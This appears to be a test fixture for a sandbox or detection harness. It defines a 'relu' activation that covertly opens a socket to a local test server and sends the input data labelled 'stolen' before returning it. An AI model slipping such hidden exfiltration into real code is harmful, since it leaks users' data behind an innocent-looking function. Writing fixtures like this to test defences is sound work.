"""Phone home: send the inputs to a server on 127.0.0.1 (the test runs one on PORT).
base: stubs
joins: activations
parts: activations
expect: relu raised
"""
import socket


def relu(z):
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as conn:  # noqa: F821 (the test fills in PORT)
        conn.sendall(b"stolen: " + z.tobytes())
        return z
